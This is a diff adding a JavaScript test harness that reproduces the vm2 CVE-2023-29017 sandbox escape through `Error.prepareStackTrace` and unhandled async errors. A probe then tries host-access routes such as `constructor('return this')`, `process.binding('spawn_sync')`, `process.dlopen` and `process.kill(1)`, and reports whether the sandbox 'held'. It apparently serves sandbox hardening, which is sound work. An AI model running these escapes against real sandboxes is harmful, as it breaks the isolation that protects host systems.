@@ -1,0 +1,81 @@
+// CVE-2023-29017 (GHSA-7jxr-cg7f-gpgv), vm2: an async function fails with nobody there to handle it, and the host, as it makes the text of
+// that error, calls the app's `prepareStackTrace` with things of its own.
+const attacks = {
+  "an async error that nothing handles": {
+    ends: ["ok"],
+    async run() {
+      const got = [];
+      Error.prepareStackTrace = function (error, sites) {
+        got.push(
+          this,
+          error,
+          ...sites,
+          ...sites.map((site) => site.getThis?.()),
+          ...sites.map((site) => site.getFunction?.()),
+        );
+        return "";
+      };
+      (async () => {
+        await null;
+        null.x;
+      })();
+      (async () => import("node:sqlite"))();
+      setTimeout(() => {
+        undefined.x;
+      }, 0);
+      await new Promise((resolve) => setTimeout(resolve, 3));
+      delete Error.prepareStackTrace;
+      return probe(...got);
+    },
+  },
+};
+
+const names = Object.getOwnPropertyNames(globalThis);
+/** What of a host can be named now, by this code or by what the attack got hold of: "held", or what was reached. */
+function probe(...got) {
+  const reached = [];
+  const say = (what) => void reached.push(what);
+  for (const value of [...got, console, fetch, process, import.meta, Buffer]) {
+    try {
+      const world = value?.constructor?.constructor?.("return this")();
+      if (world !== undefined && world !== globalThis) say("a global object that is not the guest's");
+    } catch {}
+    if (!(value instanceof Error)) continue;
+    const [text] =
+      /\/(?:home|root|usr|tmp|var|etc|proc|opt|work|rustc)\/[^\s)]*|[\w/]+\.rs\b|\b(?:wasmtime|rquickjs|cargo|panicked)\b|node:internal/.exec(
+        `${value.stack} ${value.message}`,
+      ) ?? [];
+    if (text !== undefined) say(`an error's text tells ${text}`);
+  }
+  for (const name of ["Deno", "Bun", "require", "module", "exports", "WebAssembly", "std", "os", "__bootstrap"]) {
+    if ((0, eval)(`typeof ${name}`) !== "undefined") say(name);
+  }
+  if (process.mainModule !== undefined) say("process.mainModule");
+  if (process.execPath !== "/node" || process.pid !== 1) say("another process");
+  for (const open of [
+    () => process.binding("fs"),
+    () => process.binding("spawn_sync"),
+    () => process.dlopen({}, "x"),
+    () => process._linkedBinding("fs"),
+    () => process.kill(1),
+  ]) {
+    try {
+      say(`${open} gave ${open()}`);
+    } catch (error) {
+      if (!(error instanceof Error)) say(`${open} threw ${error}`);
+    }
+  }
+  const more = Object.getOwnPropertyNames(globalThis).filter((name) => !names.includes(name));
+  if (more.length > 0) say(`the globals ${more}`);
+  return reached.length === 0 ? "held" : [...new Set(reached)].join(", ");
+}
+
+export default {
+  async fetch(request) {
+    const name = new URL(request.url).searchParams.get("attack");
+    if (name === null) {
+      return Response.json(Object.entries(attacks).map(([name, { ends, times = 1 }]) => ({ name, ends, times })));
+    }
+    return new Response((await attacks[name].run(request)) ?? "held");
+  },
+};
